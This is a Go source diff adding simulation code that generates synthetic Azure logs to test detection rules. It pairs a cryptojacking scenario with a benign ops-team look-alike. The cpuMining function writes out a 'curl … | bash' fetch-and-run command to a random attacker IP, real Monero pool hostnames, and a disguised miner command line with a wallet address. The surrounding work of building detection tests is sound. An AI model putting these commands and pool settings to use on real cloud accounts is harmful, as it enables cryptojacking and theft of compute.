@@ -1,0 +1,89 @@
+package simulate
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"time"
+)
+
+// fleetID is the ops team's web scale set, created in the baseline and
+// scaled by the CPU twin.
+func (t *tenant) fleetID() string {
+	return t.rg("web-"+t.Regions[0]) + "/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WEB-FLEET"
+}
+
+// customScript is a scale set's Custom Script extension running command.
+func customScript(command string) map[string]any {
+	return map[string]any{"name": "CustomScript", "properties": map[string]any{
+		"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript", "typeHandlerVersion": "2.1",
+		"settings": map[string]any{"commandToExecute": command}}}
+}
+
+// cpuMining is CPU cryptojacking without GPUs: the deployment pipeline's
+// leaked secret is used from Azure to mass-deploy high-core scale sets in
+// three regions with a Custom Script extension that starts a miner.
+func (g *gen) cpuMining(at time.Time) Attack {
+	t := g.t
+	ip := pick(g.r, attackerIPs)
+	sp := g.spActor(t.CI, ip)
+	a := Attack{Start: at, Principals: []string{strings.ToLower(t.CI.OID), strings.ToLower(t.CI.AppID)}, Resources: []string{strings.ToLower(t.FirewallID)}}
+	size := pick(g.r, []string{"Standard_F72s_v2", "Standard_HB120rs_v3", "Standard_F64s_v2"})
+	far, fresh := g.otherRegions(2)
+	regions := append([]string{t.Regions[len(t.Regions)-1]}, far...)
+	pool := pick(g.r, []string{"gulf.moneroocean.stream", "pool.supportxmr.com", "xmr-eu1.nanopool.org", "pool.hashvault.pro"})
+	script := "curl -fsSL http://" + fmt.Sprintf("45.%d.%d.%d", 9+g.r.IntN(80), g.r.IntN(256), 1+g.r.IntN(250)) + "/i.sh | bash"
+	now := at
+	for i, loc := range regions {
+		rid := t.rg(fmt.Sprintf("batch-%s", loc)) + "/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/" + strings.ToUpper(fmt.Sprintf("render-%d", i))
+		end := g.arm(now, sp, "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WRITE", rid,
+			armOpts{Body: vmssBody(loc, size, 25+g.r.IntN(15), "Spot", []any{customScript(script)}), Loc: loc, Accept: true})
+		g.arm(end.Add(30*time.Second), sp, "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/EXTENSIONS/WRITE", rid+"/EXTENSIONS/CUSTOMSCRIPT",
+			armOpts{Body: map[string]any{"location": loc, "properties": customScript(script)["properties"]}, Loc: loc, Accept: true})
+		a.Resources = append(a.Resources, strings.ToLower(rid))
+		host := fmt.Sprintf("render-%d%06d", i, g.r.IntN(30))
+		up := end.Add(3*time.Minute + g.jitter(3*time.Minute))
+		g.dns(up, fmt.Sprintf("10.%d.1.%d", 50+i, 4+g.r.IntN(30)), pool+".")
+		g.exec(up.Add(time.Second), host, 3100+g.r.IntN(500), 1, 0, []string{"/var/tmp/.cache/kswapd0", "-o", pool + ":443", "-u",
+			"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "--tls", "--cpu-priority", "5", "--donate-level", "0", "-B"})
+		a.End = up.Add(time.Second)
+		now = end.Add(2*time.Minute + g.jitter(4*time.Minute))
+	}
+	a.MustFire = []string{
+		"azure.compute.mass_deployment", "azure.compute.multi_region_fanout", "azure.compute.new_region", "azure.compute.first_time_deployer",
+		"azure.dns.mining_pool_lookup", "azure.host.miner_process",
+	}
+	if !fresh {
+		a.MustFire = slices.DeleteFunc(a.MustFire, func(r string) bool { return r == "azure.compute.new_region" })
+	}
+	return a
+}
+
+// cpuTwin is the ops team scaling its usual web fleet: its usual engineer,
+// MFA from the office, the known scale set in the usual region, a Custom
+// Script extension that installs the web server.
+func (g *gen) cpuTwin(at time.Time) Attack {
+	t := g.t
+	p := g.latest(t.Ops, at)
+	ip := t.office(g.r)
+	a := Attack{Start: at, Principals: principalIDs(p), Resources: []string{strings.ToLower(t.fleetID()), strings.ToLower(t.FirewallID)}}
+	g.signIn(at, signin{UPN: p.UPN, OID: p.OID, IP: ip, App: "Microsoft Azure CLI", AppID: appCLI, MFA: true})
+	loc := t.Regions[0]
+	script := customScript("apt-get update && apt-get install -y nginx && systemctl enable --now nginx")
+	now := at.Add(5*time.Minute + g.jitter(5*time.Minute))
+	for _, n := range []int{12, 24} {
+		now = g.arm(now, g.user(p, ip, true), "MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/WRITE", t.fleetID(),
+			armOpts{Body: vmssBody(loc, "Standard_D8s_v5", n, "Regular", []any{script}), Loc: loc, Accept: true})
+		now = now.Add(70*time.Minute + g.jitter(10*time.Minute))
+	}
+	for i := range 3 {
+		g.exec(now.Add(time.Duration(i)*time.Minute), fmt.Sprintf("web-fleet%06d", 12+i), 1500+i, 1, 0, []string{"/usr/sbin/nginx", "-g", "daemon on; master_process on;"})
+	}
+	a.End = now.Add(3 * time.Minute)
+	a.MustNotFire = []string{
+		"azure.signin.azure_ip_not_owned.arm", "azure.signin.risky_then_quota_or_compute",
+		"azure.compute.mass_deployment", "azure.compute.multi_region_fanout", "azure.compute.new_region", "azure.compute.first_time_deployer",
+		"azure.compute.unusual_service", "azure.dns.mining_pool_lookup", "azure.host.miner_process",
+	}
+	return a
+}
